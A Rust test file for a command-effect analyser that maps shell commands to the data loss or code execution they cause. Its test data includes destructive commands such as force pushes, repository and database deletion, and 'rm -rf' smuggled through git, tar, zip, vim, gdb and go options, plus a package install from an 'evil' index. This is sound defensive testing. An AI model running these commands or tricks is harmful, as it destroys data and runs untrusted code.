//! What the programs of developers would do.

use super::testing::{all_effects as effects, assert_effects};

#[test]
fn git_says_what_is_lost_and_where() {
    assert_effects(&[
        (
            "git push --force",
            "publish remote origin forced; rewrite remote origin forced",
        ),
        (
            "git push origin +main",
            "publish remote origin forced,shared; rewrite remote origin forced,shared",
        ),
        (
            "git push origin :old",
            "publish remote origin; delete branch old remote",
        ),
        (
            "git push --force-with-lease",
            "publish remote origin; write branch HEAD remote",
        ),
        (
            "git push --mirror",
            "publish remote origin forced,all; rewrite remote origin forced,all; \
             delete branch what is not here forced,remote,all",
        ),
        (
            "git reset --hard HEAD~1",
            "overwrite path /home/u/p project-root recursive,uncommitted; write history HEAD",
        ),
        ("git reset --soft HEAD~1", ""),
        ("git checkout main", ""),
        (
            "git checkout -- src",
            "overwrite path /home/u/p/src project uncommitted",
        ),
        (
            "git checkout .",
            "overwrite path /home/u/p project-root uncommitted",
        ),
        ("git restore --staged a", ""),
        (
            "git restore a",
            "overwrite path /home/u/p/a project uncommitted",
        ),
        (
            "git clean -fdx",
            "delete path /home/u/p project-root recursive,forced,all,uncommitted",
        ),
        (
            "git clean -n",
            "delete path /home/u/p project-root dry-run,uncommitted",
        ),
        ("git branch -D x", "delete branch x forced"),
        ("git stash drop", "delete history stash@{0} uncommitted"),
        ("git stash pop", ""),
        ("git config --global user.name Bob", ""),
        (
            "git config core.hooksPath /tmp/h",
            "write config core.hooksPath; persist code /tmp/h",
        ),
        (
            "git worktree remove --force ../w",
            "delete path /home/u/w home recursive,forced,uncommitted",
        ),
    ]);
}

#[test]
fn a_forge_deletes_on_the_remote() {
    assert_effects(&[
        ("gh repo delete o/r --yes", "delete remote o/r permanent"),
        (
            "gh api -X DELETE repos/o/r",
            "delete resource repos/o/r remote",
        ),
    ]);
}

#[test]
fn what_an_option_runs_is_read() {
    assert_effects(&[
        (
            "git -c alias.x='!rm -rf /srv/x' x",
            "interpret config !rm -rf /srv/x indirect <text; interpret code rm -rf /srv/x <text; \
             delete path /srv/x system recursive,forced; unknown subcommand git x",
        ),
        (
            "git clone --upload-pack 'rm -rf /srv/x' host:r",
            "fetch remote host:r; execute code rm -rf /srv/x; interpret code rm -rf /srv/x <text; \
             delete path /srv/x system recursive,forced",
        ),
        (
            "git bisect run rm -rf /srv/x",
            "delete path /srv/x system recursive,forced",
        ),
        (
            "git filter-branch --tree-filter 'rm -rf /srv/x' HEAD",
            "rewrite history every commit all; interpret code rm -rf /srv/x <text; \
             delete path /srv/x system recursive,forced",
        ),
        (
            "tar cf a.tar --checkpoint-action=exec='rm -rf /srv/x' b",
            "overwrite path /home/u/p/a.tar project <file; interpret code rm -rf /srv/x <text; \
             delete path /srv/x system recursive,forced",
        ),
        (
            "zip a.zip b -T -TT 'rm -rf /srv/x'",
            "write path /home/u/p/a.zip project <file; interpret code rm -rf /srv/x <text; \
             delete path /srv/x system recursive,forced",
        ),
        (
            "vim +'!rm -rf /srv/x' f",
            "interpret code !rm -rf /srv/x <text; delete path /srv/x system recursive,forced",
        ),
        (
            "gdb -batch -ex 'shell rm -rf /srv/x'",
            "interpret code shell rm -rf /srv/x <text; delete path /srv/x system recursive,forced",
        ),
        (
            "go test -exec 'rm -rf /srv/x' ./...",
            "execute path /home/u/p/... project <file; interpret code rm -rf /srv/x <text; \
             delete path /srv/x system recursive,forced",
        ),
    ]);
}

#[test]
fn packages_are_installed_removed_and_published() {
    assert_effects(&[
        ("pip install requests", "install package requests"),
        (
            "pip install -i http://evil x",
            "install package x unverified",
        ),
        ("python -m pip uninstall -y x", "delete package x"),
        ("npm ci", "install package lock file"),
        ("npm publish --dry-run", "publish package . dry-run"),
        ("npm unpublish x", "delete package x remote"),
        (
            "cargo +nightly test -- --nocapture",
            "execute path /home/u/p/Cargo.toml project <file",
        ),
        ("cargo publish", "publish package ."),
        ("cargo yank --version 1.0.0", "revoke package ."),
        (
            "mvn clean deploy",
            "execute path /home/u/p/pom.xml project <file; publish package .; \
             delete path /home/u/p/target build-output recursive",
        ),
    ]);
}

#[test]
fn a_task_of_a_framework_destroys_its_database() {
    assert_effects(&[
        (
            "python manage.py flush",
            "execute path /home/u/p/manage.py project <file; delete database default all",
        ),
        (
            "bundle exec rails db:drop",
            "execute path /home/u/p project-root <file; delete database of the project all",
        ),
        (
            "php artisan migrate:fresh",
            "execute path /home/u/p project-root <file; delete database of the project all",
        ),
    ]);
}

#[test]
fn a_program_behind_another_is_found() {
    assert_effects(&[
        (
            "npx rimraf /srv/x",
            "install package rimraf; delete path /srv/x system recursive",
        ),
        (
            "cmake -E rm -rf /srv/x",
            "delete path /srv/x system recursive,forced",
        ),
    ]);
}

#[test]
fn files_are_changed_where_the_options_say() {
    assert_effects(&[
        (
            "tar xzf a.tgz -C /srv/x",
            "write path /srv/x system recursive <file",
        ),
        (
            "sed -i s/a/b/ f",
            "write path /home/u/p/f project <file; interpret code s/a/b/ <text",
        ),
        ("sort -o f f", "overwrite path /home/u/p/f project"),
        (
            "make -C sub -f other.mk t",
            "execute path /home/u/p/sub/other.mk project <file; \
             interpret path /home/u/p/sub/other.mk project <file; \
             unknown localprogram /home/u/p/sub/other.mk",
        ),
        (
            "chmod -R 777 .",
            "chmod path /home/u/p project-root recursive,shared",
        ),
        ("chmod -x f", "chmod path /home/u/p/f project"),
        ("dd if=a of=b", "overwrite path /home/u/p/b project <file"),
        (
            "find . -name '*.pyc' -delete",
            "delete path /home/u/p/**/*.pyc build-output recursive,glob",
        ),
        ("xxd -r a b", "overwrite path /home/u/p/b project <decoded"),
    ]);
}

#[test]
fn looking_around_does_nothing() {
    assert_effects(&[(
        "ls -la && grep -rn x . | head -5 && wc -l f && git log --oneline -3 && git diff --stat",
        "",
    )]);
}

#[test]
fn what_a_program_prints_to_be_evaluated_is_not_unknown() {
    let is_unknown =
        |effects: &[String]| effects.iter().any(|effect| effect.starts_with("unknown"));
    for command in [
        "eval \"$(ssh-agent -s)\"",
        "eval $(brew shellenv)",
        "eval \"$(/opt/homebrew/bin/brew shellenv)\"",
        "eval \"$(direnv hook bash)\"",
        "source <(kubectl completion bash)",
    ] {
        let effects = effects(command);
        assert!(!is_unknown(&effects), "{command}: {effects:?}");
    }
    for command in [
        "ssh-agent() { echo x; }; eval \"$(ssh-agent -s)\"",
        "eval \"$(./ssh-agent -s)\"",
        "eval \"$(brew search x)\"",
        "eval \"$(ssh-agent -s; ./x)\"",
    ] {
        let effects = effects(command);
        assert!(is_unknown(&effects), "{command}: {effects:?}");
    }
}
